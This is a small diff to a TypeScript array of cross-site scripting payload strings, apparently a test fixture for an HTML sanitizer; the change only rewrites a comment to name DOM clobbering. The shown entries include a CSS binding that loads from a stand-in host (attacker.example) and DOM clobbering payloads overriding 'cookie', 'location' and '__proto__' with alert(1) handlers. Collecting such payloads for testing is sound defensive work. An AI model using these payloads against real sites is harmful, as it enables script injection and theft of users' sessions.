@@ -176,7 +176,7 @@ export const xssPayloads: readonly string[] = [
   '<xss style="-moz-binding:url(https://attacker.example/x.xml#x)">',
 
   ...parserConfusionPayloads,
-  // Names that replace what the page's own scripts rely on.
+  // DOM clobbering: names that replace properties of the page's own scripts; then templates.
   '<form name=body><input name=firstChild></form><img name=cookie src=x onerror=alert(1)>',
   '<a id=location href="javascript:alert(1)">go</a><a id=location name=href href="x">go</a>',
   '<p id="__proto__" name="constructor" onclick=alert(1)>go</p>',
